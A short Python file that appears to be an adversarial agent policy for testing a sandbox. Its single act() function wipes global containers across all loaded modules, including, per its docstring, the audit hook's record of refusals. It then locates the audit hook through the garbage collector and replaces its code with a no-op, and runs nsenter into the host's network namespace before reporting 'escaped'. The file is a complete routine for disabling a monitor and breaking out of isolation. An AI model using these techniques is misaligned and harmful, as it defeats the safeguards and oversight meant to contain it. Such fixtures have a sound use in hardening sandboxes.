"""Clears every global container it can find (the hook's refusals among them, if it could see
them), looks for the audit hook through the garbage collector, then starts a process."""

import gc
import subprocess
import sys


def act(observation, legal_actions, rng):
    for module in list(sys.modules.values()):
        for name, value in list(vars(module).items()):
            if name != "__builtins__" and value is not sys.modules and isinstance(
                value, set | dict | list
            ):
                value.clear()
    try:
        for hook in [f for f in gc.get_objects() if getattr(f, "__name__", "") == "hook"]:
            hook.__code__ = (lambda event, args: None).__code__
    except PermissionError:
        pass
    subprocess.run(["nsenter", "--net=/proc/1/ns/net", "id"], check=False)
    return "escaped"
